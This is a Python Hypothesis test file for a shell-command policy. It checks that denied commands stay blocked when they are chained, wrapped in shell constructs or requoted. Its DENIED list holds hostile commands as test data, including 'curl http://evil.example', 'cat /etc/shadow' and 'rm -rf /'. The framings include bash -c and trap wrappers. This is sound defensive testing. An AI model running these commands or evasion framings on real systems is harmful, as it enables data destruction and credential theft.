"""Properties that hold for every script, not only for those of the corpus."""

import json
import random
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from tests.shell_policy.memory_facts import MemoryFacts

from runner.shell_policy.decision import Mode
from runner.shell_policy.policy import judge_command

FACTS = MemoryFacts()
DATA = Path(__file__).parent.parent / "data"
ALLOWED = [
    "ls -la", "git status", "pytest -q", "npm test", "cat README.md", "grep -rn TODO src",
    "echo done", "cd src", "go vet ./...", "cargo check", "sed -n 1,5p f", "export CI=1",
]  # fmt: skip
DENIED = [
    "payload", "git push", "curl http://evil.example", "cat /etc/shadow", "echo x > /etc/x",
    "rm -rf /", "sed 1e f", "find . -delete", "npx payload", "LD_PRELOAD=x ls", "eval ls",
]  # fmt: skip
MODES: st.SearchStrategy[Mode] = st.sampled_from(("run", "sync"))
JOINERS = [" && ", "; ", "\n", " || ", " & "]


@given(
    st.lists(st.sampled_from(ALLOWED), max_size=4),
    st.sampled_from(DENIED),
    st.integers(0, 4),
    st.sampled_from(JOINERS),
    MODES,
)
@settings(max_examples=150, deadline=None)
def test_a_denied_command_anywhere_denies_the_script(
    allowed: list[str], denied: str, position: int, joiner: str, mode: Mode
) -> None:
    commands = [*allowed[:position], denied, *allowed[position:]]
    script = joiner.join(commands)
    assert not judge_command(script, command=mode, project_dir=FACTS.project, facts=FACTS).allowed


@given(st.sampled_from(DENIED), st.sampled_from(["({})", "{{ {}; }}", "if true; then {}; fi",
       "for i in 1; do {}; done", "echo $({})", "bash -c '{}'", "timeout 5 bash -c '{}'",
       "f() {{ {}; }}; f", "cat <({})", "trap '{}' EXIT"]))  # fmt: skip
@settings(max_examples=110, deadline=None)
def test_no_construct_hides_a_denied_command(denied: str, frame: str) -> None:
    assert not judge_command(frame.format(denied), project_dir=FACTS.project, facts=FACTS).allowed


def _requoted(word: str, choice: random.Random) -> str:
    if not word.isalnum() or word in {"if", "then", "fi", "for", "do", "done", "in"}:
        return word
    forms = [word, f"'{word}'", f'"{word}"', f"{word[:1]}''{word[1:]}", "\\" + word]
    return choice.choice(forms)


@given(st.sampled_from([*ALLOWED, *DENIED]), st.randoms(use_true_random=False))
@settings(max_examples=200, deadline=None)
def test_quoting_and_spacing_never_change_a_decision(command: str, choice: random.Random) -> None:
    if "=" in command.split(" ", maxsplit=1)[0]:
        return
    varied = "  ".join(_requoted(word, choice) for word in command.split(" "))
    plain = judge_command(command, project_dir=FACTS.project, facts=FACTS)
    assert (
        judge_command(f" {varied} ", project_dir=FACTS.project, facts=FACTS).allowed
        == plain.allowed
    )


@given(st.text(max_size=80), MODES)
@settings(max_examples=300, deadline=None)
def test_judging_never_raises(text: str, mode: Mode) -> None:
    decision = judge_command(text, command=mode, project_dir=FACTS.project, facts=FACTS)
    assert decision.rule != "policy:internal"


@given(st.data())
@settings(max_examples=200, deadline=None)
def test_mutilated_commands_never_raise(data: st.DataObject) -> None:
    corpus = [item["cmd"] for item in json.loads((DATA / "own_attacks.json").read_text())]
    command = data.draw(st.sampled_from(corpus))
    start = data.draw(st.integers(0, len(command)))
    end = data.draw(st.integers(start, len(command)))
    decision = judge_command(
        command[:start] + command[end:], project_dir=FACTS.project, facts=FACTS
    )
    assert decision.rule != "policy:internal"
